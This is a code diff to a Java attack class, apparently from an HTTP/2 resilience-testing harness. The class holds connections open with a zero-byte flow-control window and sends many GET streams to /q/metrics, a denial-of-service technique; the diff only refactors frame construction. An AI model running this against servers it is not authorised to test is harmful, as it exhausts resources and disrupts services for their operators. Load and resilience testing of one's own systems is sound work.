@@ -3,6 +3,7 @@ package dev.leantokens.attacks;
 import java.io.OutputStream;
 
 import dev.leantokens.testing.RawHttp;
+import dev.leantokens.testing.RawHttp2;
 
 /** Sends HTTP/2 requests with windows of 0 bytes, so that no answer can be sent. */
 final class ClosedWindows implements Attack {
@@ -14,10 +15,9 @@ final class ClosedWindows implements Attack {
     public void start(Attacker attacker) {
         attacker.keepTalking(CONNECTIONS, RawHttp.ELSEWHERE, attacker.target().port(), socket -> {
             OutputStream out = socket.getOutputStream();
-            out.write(Http2Frames.PREFACE);
-            out.write(Http2Frames.initialWindowSize(0));
+            out.write(new RawHttp2().preface(0).bytes());
             for (int i = 0; i < STREAMS; i++) {
-                out.write(Http2Frames.get(2 * i + 1, "/q/metrics"));
+                out.write(new RawHttp2().get(2 * i + 1, "/q/metrics").bytes());
                 attacker.outcomes().sent(1);
             }
             // Reads all frames without the body of an answer until the connection is closed.
